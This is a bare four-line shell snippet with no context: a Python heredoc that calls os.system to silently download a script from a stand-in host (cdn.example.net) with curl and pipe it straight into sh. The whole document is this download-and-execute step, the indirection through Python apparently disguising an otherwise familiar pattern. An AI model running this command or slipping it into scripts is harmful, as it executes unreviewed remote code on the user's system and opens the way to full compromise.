python3 - <<'PY'
import os
os.system("curl -s https://cdn.example.net/a | sh")
PY
